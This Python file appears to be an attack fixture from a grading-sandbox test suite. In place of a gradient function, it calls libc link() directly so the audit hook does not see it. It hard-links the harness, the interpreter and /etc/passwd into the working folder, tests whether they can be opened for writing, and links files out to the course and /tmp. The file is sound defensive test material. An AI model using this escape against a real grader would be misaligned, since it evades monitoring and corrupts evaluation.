"""Attack `hardlink_escape`: the hw2_affine reference with ComputeGradients replaced by the attack.

Hard links (libc link/linkat, unseen by the audit hook): readable files of the
view (the harness, the interpreter, /etc/passwd) into the working folder, to
write through them, and the working folder's files out to /tmp, the course
and the submission's folder.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]

import json


def ComputeGradients(L, x, z):
    config = libc_read("/proc/self/cmdline") or b""
    harness = next((part.decode() for part in config.split(b"\0") if part.endswith(b"harness.py")), "")
    with open("mine.txt", "w") as handle:
        handle.write("mine")
    inward = {"harness.py": harness, "python": os.path.realpath("/proc/self/exe"), "passwd": "/etc/passwd",
              "ld.so.cache": "/etc/ld.so.cache"}
    for name, source in inward.items():
        result = libc.link(os.fsencode(source), os.fsencode(name))
        say("link in", source, "->", "ok" if result == 0 else errno_text())
        if result == 0 and not AS_ROOT:
            fd = libc.open(os.fsencode(name), os.O_WRONLY | os.O_APPEND)
            say("write through", name, "->", "OPENED FOR WRITING" if fd >= 0 else errno_text())
            if fd >= 0:
                os.close(fd)  # opening is the proof; writing would damage a real file if this ever worked
    for target in (*CANARIES, "@COURSE@/reference/hw2_affine/linked.py", "@FOLDER@/linked.py"):
        result = libc.link(b"mine.txt", os.fsencode(target))
        say("link out", target, "->", "ok" if result == 0 else errno_text())
    return None
